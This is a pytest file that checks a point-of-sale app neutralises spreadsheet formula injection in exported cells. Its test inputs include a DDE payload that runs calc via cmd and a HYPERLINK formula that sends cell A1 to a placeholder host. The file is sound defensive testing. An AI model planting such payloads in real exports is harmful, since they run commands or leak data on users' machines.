"""Exported cells: formulas are neutralised, numbers stay numbers."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pos_app.domain.export_cells import FORMULA_STARTS, export_row, neutralise_formula


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x/?"&A1,"点我")',
        "+1+1",
        "-1+1",
        "-2-3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "－A1",
        "-",
        "+",
    ],
)
def test_formula_like_text_gets_a_leading_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-12.50", "+3", "-5", "12", "张三", "a=1", "", " =1", 0, -1250, -12.5, None, True]
)
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert neutralise_formula(value) == value


def test_a_row_goes_cell_by_cell():
    assert export_row(["=1+1", -5, "-5", "合作商户"]) == ["'=1+1", -5, "-5", "合作商户"]


@given(st.text())
def test_no_text_comes_out_as_a_formula(text):
    out = neutralise_formula(text)
    assert isinstance(out, str)
    if out.startswith(FORMULA_STARTS):
        float(out)  # only a plain number may still start with a sign
